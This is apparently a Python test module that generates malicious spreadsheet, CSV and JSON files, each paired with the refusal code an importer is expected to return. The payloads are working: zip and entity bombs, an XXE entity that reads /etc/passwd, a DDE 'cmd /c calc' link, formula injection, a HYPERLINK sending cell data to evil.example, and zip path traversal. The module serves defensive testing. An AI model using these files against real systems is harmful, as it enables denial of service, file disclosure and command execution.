"""Files that attack whatever reads them, built from nothing: `python -m tests.attack_files FOLDER` writes them.

Every one has what must become of it: the code of the refusal, or "" where it is read and harmless.
"""

import io
import json
import struct
import sys
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HEAD = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>ชื่อเรื่อง</t></is></c><c r="B1" t="inlineStr"><is><t>ปี</t></is></c></row>'
)
FIRST = '<row r="2"><c r="A2" t="inlineStr"><is><t>น้ำขุ่น</t></is></c><c r="B2"><v>2566</v></c></row>'


@dataclass(frozen=True)
class Attack:
    """A file and what must become of it."""

    name: str
    make: Callable[[], bytes]
    code: str  # of the refusal; "" where it is read
    more: frozenset[str] = frozenset()  # other codes that are right as well


def parts(rows: str = HEAD + FIRST, after: str = "", strings: str = "", intro: str = "") -> dict[str, str | bytes]:
    """The parts of a small workbook, in which one thing may be wrong."""
    made: dict[str, str | bytes] = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml"'
            ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="Sheet1" sheetId="1" r:id="r1"/></sheets>'
            "</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/worksheet" '
            f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{OFFICE}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'{intro}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'
        ),
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{strings}</sst>',
    }
    return made


def packed(made: dict[str, str | bytes], *more: tuple[str, str | bytes]) -> bytes:
    """The parts as a zip archive."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (*made.items(), *more):
            archive.writestr(name, content)
    return target.getvalue()


def with_rows(rows: str, **more: str) -> bytes:
    return packed(parts(HEAD + rows, **more))


def cell(name: str, text: str) -> str:
    return f'<c r="{name}" t="inlineStr"><is><t>{text}</t></is></c>'


def varied(length: int) -> str:
    """Text that does not shrink a hundredfold, so that it is not taken for a bomb."""
    digits = "".join(str(i * i) for i in range(length // 4))
    return digits[:length]


def zip_bomb() -> bytes:
    return packed(parts(), ("xl/media/image1.png", b"\0" * 60 * 2**20))


def ratio_bomb() -> bytes:
    return packed(parts(), ("xl/media/image1.png", b"\0" * 20 * 2**20))


def lying_headers() -> bytes:
    """The central directory says that the sheet of 60 MB has 100 bytes."""
    big = packed(parts(HEAD + FIRST + " " * 60 * 2**20))
    data = bytearray(big)
    with zipfile.ZipFile(io.BytesIO(big)) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    while (at := data.find(struct.pack("<I", size))) >= 0:
        data[at : at + 4] = struct.pack("<I", 100)
    return bytes(data)


def encrypted_zip() -> bytes:
    data = bytearray(packed(parts()))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def billion_laughs() -> bytes:
    lines = ['<!ENTITY a0 "ฮา">', *(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))]
    intro = f"<!DOCTYPE worksheet [{''.join(lines)}]>"
    return packed(parts(HEAD + f'<row r="2">{cell("A2", "&a9;")}{cell("B2", "1")}</row>', intro=intro))


def external_entity(encoding: str = "utf-8") -> bytes:
    intro = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    made = parts(HEAD + f'<row r="2">{cell("A2", "&x;")}{cell("B2", "1")}</row>', intro=intro)
    sheet = f'<?xml version="1.0" encoding="{encoding}"?>{made["xl/worksheets/sheet1.xml"]!s}'
    text = sheet if encoding.startswith("utf") else sheet.replace("ชื่อเรื่อง", "title").replace("ปี", "year")
    return packed(made | {"xl/worksheets/sheet1.xml": text.encode(encoding)})


def far_cell() -> bytes:
    return with_rows(FIRST + f'<row r="1048576">{cell("XFD1048576", "x")}</row>')


def far_empty_cell() -> bytes:
    return with_rows(FIRST + '<row r="1048576"><c r="XFD1048576" s="0"/></row>')


def far_row() -> bytes:
    return with_rows(FIRST + f'<row r="1048576">{cell("A1048576", "x")}</row>')


def many_far_cells() -> bytes:
    return with_rows("".join(f'<row r="{i}">{cell(f"XFD{i}", "x")}</row>' for i in range(2, 100_000)))


def shared_string_everywhere() -> bytes:
    """One text of a megabyte in 12,000 cells: 12 GB for whoever copies it."""
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(2, 12_002))
    return with_rows(rows, strings=f"<si><t>{varied(2**20)}</t></si>")


def long_string_everywhere() -> bytes:
    """The longest text that a cell may have in 12,000 cells."""
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(2, 12_002))
    return with_rows(rows, strings=f"<si><t>{varied(32_000)}</t></si>")


def many_rows() -> bytes:
    return with_rows("".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(2, 60_000)))


def merged_everywhere() -> bytes:
    return with_rows(FIRST, after='<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>')


def many_merges() -> bytes:
    refs = "".join(f'<mergeCell ref="A{i}:A1048576"/>' for i in range(2, 20_000))
    rows = "".join(f'<row r="{i}">{cell(f"A{i}", "x")}</row>' for i in range(2, 20_000))
    return with_rows(rows + f'<row r="1048576">{cell("B1048576", "x")}</row>', after=f"<mergeCells>{refs}</mergeCells>")


def deep_xml() -> bytes:
    names = [f"x{i * i}" for i in range(100_000)]
    return with_rows("".join(f"<{name}>" for name in names) + "".join(f"</{name}>" for name in reversed(names)))


def macros() -> bytes:
    return packed(parts(), ("xl/vbaProject.bin", OLE + b"Sub Auto_Open()"))


def macro_sheet() -> bytes:
    return packed(parts(), ("xl/macrosheets/sheet1.xml", "<macrosheet/>"))


def external_link() -> bytes:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return packed(parts(), ("xl/externalLinks/externalLink1.xml", link))


def formulas() -> bytes:
    hyperlink = '<f>HYPERLINK("http://evil.example/"&amp;B1,"กด")</f><v>กด</v>'
    texts = ("=cmd|'/c calc'!A0", "\uff1d1+1", "  @SUM(1)", "-2+3", "+1-2")
    rows = (f'<row r="{i}">{cell(f"A{i}", text)}{cell(f"B{i}", "x")}</row>' for i, text in enumerate(texts, 3))
    return with_rows(f'<row r="2"><c r="A2" t="str">{hyperlink}</c>{cell("B2", "x")}</row>' + "".join(rows))


def hungry() -> bytes:
    """A million cells in one row: a parser keeps them all until the row ends."""
    return with_rows(f'<row r="2">{"".join(f"""<c r="A{i}"/>""" for i in range(1_300_000))}</row>')


def traversal() -> bytes:
    return packed(parts(), ("../../../../tmp/owned", b"x"), ("/etc/owned", b"x"))


def same_part_twice() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return packed(parts(), ("xl/worksheets/sheet1.xml", "<worksheet/>"))


def many_parts() -> bytes:
    return packed(parts(), *((f"xl/media/{i}.png", b"x") for i in range(500)))


def many_sheets() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    for i in range(100):
        sheet = book.create_sheet(f"s{i}")
        sheet.append(["a", "b"])
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def truncated() -> bytes:
    return packed(parts())[:-200]


def broken_deflate() -> bytes:
    data = bytearray(
        packed(parts(HEAD + "".join(f'<row r="{i}">{cell(f"A{i}", str(i * 7919))}</row>' for i in range(2, 90))))
    )
    middle = data.find(b"xl/worksheets/sheet1.xml") + 60
    data[middle : middle + 40] = b"\xff" * 40
    return bytes(data)


def bad_shared_string() -> bytes:
    return with_rows('<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')


def bad_numbers() -> bytes:
    rows = '<row r="2"><c r="A2"><v>1e999</v></c><c r="B2"><v>NaN</v></c></row>'
    return with_rows(rows)


def huge_number() -> bytes:
    return with_rows(f'<row r="2"><c r="A2"><v>{"9" * 100_000}</v></c></row>')


def negative_row() -> bytes:
    return with_rows(f'<row r="-5">{cell("A2", "x")}</row><row r="1e9"/>')


def no_sheet_part() -> bytes:
    made = parts()
    del made["xl/worksheets/sheet1.xml"]
    return packed(made)


def repeated(text: str, times: int) -> Callable[[], bytes]:
    return lambda: (text * times).encode()


def constant(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def json_of(value: object) -> Callable[[], bytes]:
    return lambda: json.dumps(value).encode()


ATTACKS: tuple[Attack, ...] = (
    Attack("zip-bomb.xlsx", zip_bomb, "archive-bomb"),
    Attack("ratio-bomb.xlsx", ratio_bomb, "archive-bomb"),
    Attack("lying-headers.xlsx", lying_headers, "damaged", frozenset({"archive-bomb"})),
    Attack("encrypted.xlsx", encrypted_zip, "encrypted"),
    Attack("encrypted-office.xlsx", constant(OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")), "encrypted"),
    Attack("old.xls", constant(OLE + b"\0" * 600 + "Workbook".encode("utf-16-le")), "old-excel"),
    Attack("billion-laughs.xlsx", billion_laughs, "document-type"),
    Attack("external-entity.xlsx", external_entity, "document-type"),
    Attack("external-entity-utf16.xlsx", lambda: external_entity("utf-16"), "document-type"),
    Attack("external-entity-ebcdic.xlsx", lambda: external_entity("cp037"), "damaged"),
    Attack("far-cell.xlsx", far_cell, "too-many-columns"),
    Attack("far-empty-cell.xlsx", far_empty_cell, ""),
    Attack("far-row.xlsx", far_row, ""),
    Attack("many-far-cells.xlsx", many_far_cells, "too-many-columns"),
    Attack("shared-string.xlsx", shared_string_everywhere, "cell-too-long"),
    Attack("long-string.xlsx", long_string_everywhere, "too-much-text"),
    Attack("many-rows.xlsx", many_rows, "too-many-rows"),
    Attack("merged-everywhere.xlsx", merged_everywhere, ""),
    Attack("many-merges.xlsx", many_merges, "too-much-text"),
    Attack("deep.xlsx", deep_xml, "no-rows", frozenset({"too-heavy"})),
    Attack("hungry.xlsx", hungry, "too-heavy"),
    Attack("macros.xlsm", macros, "macros"),
    Attack("macro-sheet.xlsx", macro_sheet, "macros"),
    Attack("external-link.xlsx", external_link, ""),
    Attack("formulas.xlsx", formulas, ""),
    Attack("traversal.xlsx", traversal, ""),
    Attack("same-part-twice.xlsx", same_part_twice, "archive-entries"),
    Attack("many-parts.xlsx", many_parts, "archive-entries"),
    Attack("many-sheets.xlsx", many_sheets, "too-many-sheets"),
    Attack("truncated.xlsx", truncated, "damaged"),
    Attack("broken-deflate.xlsx", broken_deflate, "damaged"),
    Attack("bad-shared-string.xlsx", bad_shared_string, "damaged"),
    Attack("bad-numbers.xlsx", bad_numbers, "damaged"),
    Attack("huge-number.xlsx", huge_number, "damaged"),
    Attack("negative-row.xlsx", negative_row, "no-rows"),
    Attack("no-sheet-part.xlsx", no_sheet_part, "no-rows"),
    Attack("archive.zip", lambda: packed({"a.csv": "a,b\n1,2\n"}), "not-a-workbook"),
    Attack("table.ods", lambda: packed({"mimetype": "x", "content.xml": "<x/>"}), "opendocument"),
    Attack("table.xlsb", lambda: packed(parts(), ("xl/workbook.bin", b"x")), "binary-workbook"),
    Attack("empty.xlsx", constant(b""), "empty"),
    Attack("zeros.csv", constant(b"\0" * 5000), "empty"),
    Attack("page.xls", constant(b"<html><table><tr><td>=1+1</td></tr></table></html>"), "unknown-format"),
    Attack("paper.pdf", constant(b"%PDF-1.7\n"), "unknown-format"),
    Attack("program.csv", constant(b"MZ\x90\0\x03"), "unknown-format"),
    Attack("nul.csv", constant(b"a,b\n1,\x002\n" * 20), "control-characters"),
    Attack("one-line.csv", repeated("น้ำ", 1_000_000), "cell-too-long"),
    Attack("wide-line.csv", repeated(",x", 3_000_000), "too-many-columns"),
    Attack("open-quote.csv", constant(b'a,b\n"1,2\n3,4\n'), "unclosed-quote"),
    Attack(
        "long-open-quote.csv", lambda: b'a,b\n"' + b"1,2\n" * 100_000, "unclosed-quote", frozenset({"cell-too-long"})
    ),
    Attack("letters.csv", constant(b"a,b\n1," + bytes(range(0x80, 0xA0)) + b"\xff\xfc\n"), "unknown-encoding"),
    Attack("half-utf16.csv", constant(b"\xff\xfea\0,\0b\0\n\0\x00\xd8"), "unknown-encoding"),
    Attack("formulas.csv", constant("a,b\n=1+1,@x\n\uff1d1,+1+1\n".encode()), ""),
    Attack("many-rows.csv", repeated("1,2\n", 500_000), "too-many-rows"),
    Attack("deep.json", lambda: b"[" * 200_000 + b"]" * 200_000, "json-deep"),
    Attack("deep-objects.json", repeated('{"a":', 200_000), "json-deep"),
    Attack("repeated-key.json", constant(b'[{"a": 1, "a": 2}]'), "json-repeated-key"),
    Attack("nan.json", constant(b'[{"a": NaN}]'), "json-number"),
    Attack("infinite.json", constant(b'[{"a": 1e999}]'), "json-number"),
    Attack("huge-integer.json", lambda: b'[{"a": 1, "b": ' + b"9" * 1_000_000 + b"}]", "cell-too-long"),
    Attack("many-keys.json", json_of([{f"k{i}": i for i in range(100_000)}]), "too-many-columns"),
    Attack("many-names.json", json_of([{f"k{i}": i} for i in range(5_000)]), "too-many-columns"),
    Attack("list-of-lists.json", json_of([[1, 2], [3]]), "json-shape"),
    Attack("nested.json", json_of([{"a": {"b": {"c": 1}}}]), "json-shape"),
    Attack("surrogate.json", constant(b'[{"a": "\\ud800", "b": "\\u0000x"}]'), ""),
    Attack("cut-off.json", constant(b'[{"a": 1}, {"a":'), "json-syntax"),
)


def main(folder: Path, attacks: Iterable[Attack] = ATTACKS) -> None:
    """Write the files into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for attack in attacks:
        (folder / attack.name).write_bytes(attack.make())


if __name__ == "__main__":
    main(Path(sys.argv[1]))
